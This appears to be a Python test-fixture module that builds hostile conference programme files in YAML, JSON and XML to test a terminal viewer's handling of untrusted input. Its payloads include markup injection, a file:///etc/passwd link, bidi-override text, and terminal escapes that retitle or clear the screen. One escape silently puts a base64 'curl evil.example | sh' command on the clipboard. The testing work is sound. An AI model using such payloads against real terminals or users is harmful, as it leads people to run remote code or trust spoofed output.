"""Programme files written by an attacker: one payload in every text field, in each format."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

# Markup that Textual would read as actions, links and styles, and an unbalanced tag.
MARKUP = "[@click=app.quit]x[/] [/] [bold] [link=file:///etc/passwd]x[/]"
# Sequences that set the clipboard and the window title, erase the screen and make a link.
ESCAPES = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x1b]0;pwned\x07 \x1b[2J "
    "\x1b]8;;file:///etc/passwd\x1b\\link\x1b]8;;\x1b\\ \x9b2J \u202eevil\u2066"
)
# XML 1.0 cannot carry C0 controls, even as character references.
XML_ESCAPES = "\x9b2J \x9d0;pwned \u202eevil\u2066"


def yaml_programme(path: Path, payload: str, url: str = "https://example.org/x") -> Path:
    text = json.dumps(payload)  # a JSON string is a YAML double-quoted scalar
    link = json.dumps(url)
    path.write_text(
        f"""\
sources:
  web:
    title: {text}
    url: {link}
conference:
  id: hostile
  title: {text}
  short_title: {text}
  start: 2024-05-06
  end: 2024-05-06
  timezone: Europe/Zurich
  venue: {text}
  overview: {text}
  sources: [web]
  agenda:
    title: {text}
    note: {text}
    sources: [web]
    points:
      - text: {text}
        sources: [web]
  key_figures:
    - figure: {text}
      label: {text}
      note: {text}
      sources: [web]
sessions:
  - id: first
    kind: panel
    start: 2024-05-06T09:00
    end: 2024-05-06T10:00
    title: {text}
    room: {text}
    track: {text}
    language: {text}
    chairs: [{text}]
    theme: {text}
    description: {text}
    papers:
      - title: {text}
        url: {link}
        publisher: {text}
        note: {text}
    links:
      - title: {text}
        url: {link}
    provenance:
      sources: [web, {link}]
      inferred: [room]
      note: {text}
  - id: second
    kind: round_table
    start: 2024-05-06T09:30
    end: 2024-05-06T11:00
    title: {text}
    room: {text}
    track: {text}
    provenance:
      sources: [web]
""",
        encoding="utf-8",
    )
    return path


def json_programme(path: Path, payload: str, url: str = "https://example.org/x") -> Path:
    event = {
        "guid": "11111111-2222-3333-4444-555555555555",
        "id": 42,
        "date": "2024-05-06T09:00:00+02:00",
        "start": "09:00",
        "duration": "01:00",
        "room": payload,
        "slug": payload,
        "url": url,
        "title": payload,
        "subtitle": payload,
        "track": payload,
        "type": payload,
        "language": payload,
        "abstract": payload,
        "description": payload,
        "persons": [{"public_name": payload}, payload],
        "links": [{"url": url, "title": payload, "type": "paper"}],
        "attachments": [{"url": url, "title": payload}],
    }
    document = {
        "schedule": {
            "version": payload,
            "base_url": url,
            "conference": {
                "acronym": payload,
                "title": payload,
                "start": "2024-05-06",
                "end": "2024-05-06",
                "time_zone_name": "Europe/Zurich",
                "url": url,
                "description": payload,
                "days": [
                    {"index": 1, "date": "2024-05-06", "rooms": {payload: [event]}},
                ],
            },
        }
    }
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def xml_programme(path: Path, payload: str, url: str = "https://example.org/x") -> Path:
    text, attribute, link = escape(payload), quoteattr(payload), quoteattr(url)
    path.write_text(
        f"""<?xml version="1.0" encoding="utf-8"?>
<schedule>
  <conference>
    <title>{text}</title><acronym>{text}</acronym><venue>{text}</venue><city>{text}</city>
    <start>2024-05-06</start><end>2024-05-06</end>
    <time_zone_name>Europe/Zurich</time_zone_name>
  </conference>
  <day date="2024-05-06" index="1">
    <room name={attribute}>
      <event guid="11111111-2222-3333-4444-555555555555" id="42">
        <date>2024-05-06T09:00:00+02:00</date><start>09:00</start><duration>01:00</duration>
        <room>{text}</room><title>{text}</title><subtitle>{text}</subtitle>
        <track>{text}</track><type>{text}</type><language>{text}</language>
        <abstract>{text}</abstract><description>{text}</description>
        <url>{escape(url)}</url>
        <persons><person id="1">{text}</person></persons>
        <links><link href={link} type="paper">{text}</link></links>
        <attachments><attachment href={link}>{text}</attachment></attachments>
      </event>
    </room>
  </day>
</schedule>
""",
        encoding="utf-8",
    )
    return path


def strings_in(value: object) -> Iterator[str]:
    """Every string held anywhere in a model object."""
    if isinstance(value, str):
        yield value
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        for field in dataclasses.fields(value):
            yield from strings_in(getattr(value, field.name))
    elif isinstance(value, tuple | list | frozenset | set):
        for item in value:
            yield from strings_in(item)
